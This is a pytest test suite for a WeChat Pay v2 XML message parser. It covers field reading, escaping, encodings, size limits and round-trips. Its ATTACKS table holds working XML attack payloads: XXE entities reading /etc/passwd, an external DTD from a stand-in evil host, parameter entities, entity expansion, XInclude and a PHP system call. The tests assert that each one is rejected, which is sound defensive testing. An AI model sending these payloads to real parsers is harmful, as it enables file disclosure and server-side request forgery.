"""Messages of v2. Source: spec/wechat_pay_v2.md §1, §6."""

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from paywire.errors import Malformed
from paywire.wxpay_v2 import xml

NAMES = st.from_regex(r'[A-Za-z_][A-Za-z0-9_]{0,20}', fullmatch=True)
# What XML itself cannot carry, or turns into something else.
VALUES = st.text(
    st.characters(exclude_categories=['Cs', 'Cc'], exclude_characters='\ufffe\uffff'), max_size=30
)


def test_documented_message_is_read():
    raw = b"""<xml>
  <return_code><![CDATA[SUCCESS]]></return_code>
  <return_msg><![CDATA[OK]]></return_msg>
  <total_fee>1</total_fee>
  <attach></attach>
  <!-- a remark -->
</xml>"""
    assert xml.read(raw) == {
        'return_code': 'SUCCESS',
        'return_msg': 'OK',
        'total_fee': '1',
        'attach': '',
    }


@pytest.mark.parametrize(
    ('raw', 'value'),
    [
        ('<xml><a>&lt;b&gt; &amp; &#x6CF0;</a></xml>', '<b> & 泰'),
        ('<xml><a><![CDATA[<b> & ]]]]><![CDATA[>]]></a></xml>', '<b> & ]]>'),
        ('<xml><a> x </a></xml>', ' x '),
        ('<xml><a>x<!-- y -->z</a></xml>', 'xz'),
        ('\ufeff<?xml version="1.0" encoding="UTF-8"?>\n<xml><a>泰</a></xml>', '泰'),
        ('<?xml version="1.0" encoding="ISO-8859-1"?><xml><a>泰</a></xml>', '泰'),
    ],
)
def test_text_is_read_as_it_is_meant(raw, value):
    assert xml.read(raw.encode()) == {'a': value}


def test_message_without_fields_is_empty():
    assert xml.read(b'<xml/>') == {}


def test_other_root_is_read_where_it_is_asked_for():
    assert xml.read(b'<root><a>1</a></root>', root='root') == {'a': '1'}
    with pytest.raises(Malformed):
        xml.read(b'<root><a>1</a></root>')


ATTACKS = {
    'file': '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><xml><a>&e;</a></xml>',
    'network': '<!DOCTYPE x SYSTEM "http://evil.example.com/x.dtd"><xml><a>1</a></xml>',
    'parameter': '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil/x"> %p;]><xml><a>1</a></xml>',
    'laughs': '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><xml><a>&b;</a></xml>',
    'doctype': '<!DOCTYPE xml><xml><a>1</a></xml>',
    'entity': '<xml><a>&e;</a></xml>',
    'instruction': '<?php system("id") ?><xml><a>1</a></xml>',
    'style': '<xml><?xml-stylesheet href="x"?><a>1</a></xml>',
    'nested': '<xml><a><b>1</b></a></xml>',
    'attribute': '<xml><a b="1">1</a></xml>',
    'nested and empty': '<xml><a><b/></a></xml>',
    'namespace': '<xml xmlns="urn:x"><a>1</a></xml>',
    'include': '<xml><xi:include href="file:///etc/passwd"/></xml>',
    'repeated': '<xml><total_fee>1</total_fee><total_fee>2</total_fee></xml>',
    'repeated root': '<xml><a>1</a></xml><xml><a>2</a></xml>',
    'loose text': '<xml>1<a>1</a></xml>',
    'loose data': '<xml><![CDATA[1]]><a>1</a></xml>',
    'tail': '<xml><a>1</a></xml>x',
    'open': '<xml><a>1</a>',
    'crossed': '<xml><a>1</xml></a>',
    'name': '<xml><a-b>1</a-b></xml>',
    'chinese name': '<xml><名>1</名></xml>',
    'long name': f'<xml><{"a" * 65}>1</{"a" * 65}></xml>',
    'zero': '<xml><a>\x00</a></xml>',
    'html': '<html><body>502</body></html>',
    'json': '{"a":1}',
    'empty': '',
}


@pytest.mark.parametrize('attack', ATTACKS.values(), ids=ATTACKS)
def test_anything_but_a_flat_message_is_malformed(attack):
    with pytest.raises(Malformed):
        xml.read(attack.encode())


@pytest.mark.parametrize(
    'raw',
    [b'\xff\xfe<\x00x\x00m\x00l\x00/\x00>\x00', b'<xml><a>\xb9\xe3</a></xml>', b'\xef\xbb<xml/>'],
)
def test_other_encoding_is_malformed(raw):
    with pytest.raises(Malformed):
        xml.read(raw)


def test_size_and_number_of_fields_are_limited():
    fits = b'<xml><a>' + b'x' * (xml.MAX_BYTES - 18) + b'</a></xml>'
    assert len(fits) == xml.MAX_BYTES
    assert len(xml.read(fits)['a']) == xml.MAX_BYTES - 18
    with pytest.raises(Malformed):
        xml.read(fits + b'\n')
    many = ''.join(f'<f{number}/>' for number in range(xml.MAX_FIELDS))
    assert len(xml.read(f'<xml>{many}</xml>'.encode())) == xml.MAX_FIELDS
    with pytest.raises(Malformed):
        xml.read(f'<xml>{many}<g/></xml>'.encode())


def test_message_is_written_without_empty_values():
    assert xml.write({'a': '<1> & ]]>', 'b': '', 'c': '泰'}) == (
        '<xml><a>&lt;1&gt; &amp; ]]&gt;</a><c>泰</c></xml>'.encode()
    )


@settings(max_examples=200, deadline=None)
@given(st.dictionaries(NAMES, VALUES, max_size=8))
def test_whatever_was_written_is_read(fields):
    assert xml.read(xml.write(fields)) == {name: value for name, value in fields.items() if value}


@settings(max_examples=300, deadline=None)
@given(st.binary(max_size=120) | st.text('<>/!?[]&;xmlab="\' -CDATA', max_size=80))
def test_any_rubbish_is_malformed_or_flat_and_nothing_else(raw):
    raw = raw if isinstance(raw, bytes) else raw.encode()
    try:
        fields = xml.read(b'<xml>' + raw + b'</xml>')
    except Malformed:
        return
    assert all(re.fullmatch('[A-Za-z_][A-Za-z0-9_]*', name) for name in fields)
    assert len(fields) <= raw.count(b'<')
